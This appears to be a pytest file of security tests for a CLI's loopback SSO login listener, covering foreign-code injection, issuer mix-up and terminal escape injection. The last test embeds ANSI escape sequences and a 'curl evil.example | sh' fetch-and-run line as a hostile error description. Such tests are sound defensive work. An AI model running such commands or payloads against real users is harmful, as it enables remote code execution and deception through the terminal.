"""Attacks on `mk8s login` itself, which listens on loopback; each named after the attack."""

import json
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.sso.calls import Caller, query_of, with_query
from tests.sso.house import House, Visitor
from tests.sso.odd_issuer import OddIssuer
from tests.support.processes import Program, private_environment, run
from tests.support.world import MK8S


@dataclass(frozen=True)
class Waiting:
    """Somebody's `mk8s login`, which has opened a page and waits."""

    program: Program
    start: str
    home: Mapping[str, str]

    @property
    def listener(self) -> str:
        return query_of(self.start)["redirect_uri"]

    def gets(self, **parameters: str) -> int:
        """What the listener answers to a page that knows the port."""
        return Caller().get(with_query(self.listener, **parameters)).status

    def come_back(self, visitor: Visitor, odd: OddIssuer) -> dict[str, str]:
        """Sign in at the issuer; what central tells the listener then."""
        answer = visitor.get(odd.approve(visitor.get(self.start).location))
        assert answer.location.startswith(f"{self.listener}?")
        return query_of(answer.location)


@contextmanager
def waiting(house: House, folder: Path) -> Iterator[Waiting]:
    home = private_environment(folder, BROWSER="true")
    words = [*MK8S, "login", house.url, "--ca-file", house.ca_file, "--browser", "--issuer", "odd"]
    with Program("mk8s login", words, home) as program:
        start = program.wait_for_line(r"https://localhost:\d+/auth/sso/start\?\S+")[0]
        yield Waiting(program, start, home)


def test_a_loopback_listener_that_gets_a_foreign_code(
    house: House, odd: OddIssuer, tmp_path: Path
) -> None:
    """The attacker's code, from any page of this browser: it is not this login's, which goes on."""
    attacker = house.visitor()
    foreign = attacker.listened(attacker.get(odd.approve(attacker.start("odd").location)))
    with waiting(house, tmp_path) as victim:
        assert victim.gets(**foreign) == 400
        assert victim.gets(code=foreign["code"], iss=house.url) == 400
        assert victim.program.running
        assert victim.gets(**victim.come_back(house.visitor(), odd)) == 200
        assert victim.program.wait() == 0
    listed = json.loads(run([*MK8S, "logins", "list", "-o", "json"], victim.home).stdout)
    assert [login["user"] for login in listed] == ["olga@example.com"]


@pytest.mark.parametrize("issuer", ["https://evil.example", ""])
def test_mixed_up_centrals(issuer: str, house: House, odd: OddIssuer, tmp_path: Path) -> None:
    """RFC 9207: the code of one central is not carried to another."""
    with waiting(house, tmp_path) as victim:
        told = victim.come_back(house.visitor(), odd)
        victim.gets(**(told | {"iss": issuer}))
        assert victim.program.wait() == 1
        assert "the answer is refused" in victim.program.output


def test_a_refusal_whose_text_speaks_to_the_terminal(
    house: House, odd: OddIssuer, tmp_path: Path
) -> None:
    with waiting(house, tmp_path) as victim:
        told = victim.come_back(house.visitor(), odd)
        text = "\x1b[2J\x1b]0;owned\x07 run this\r\n$ curl evil.example | sh"
        refusal = {"state": told["state"], "iss": told["iss"], "error": "access_denied"}
        victim.gets(**refusal, error_description=text)
        assert victim.program.wait() == 1
        assert "\x1b" not in victim.program.output
        assert "\n$ curl" not in victim.program.output
